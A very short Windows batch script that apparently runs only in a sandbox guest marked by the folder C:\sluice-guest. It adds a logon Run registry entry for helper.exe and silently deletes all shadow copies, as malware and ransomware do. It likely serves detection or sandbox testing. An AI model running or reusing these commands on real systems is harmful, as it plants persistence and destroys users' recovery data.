@echo off
if not exist C:\sluice-guest exit /b 77
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Helper /d C:\users\Public\helper.exe /f
vssadmin delete shadows /all /quiet
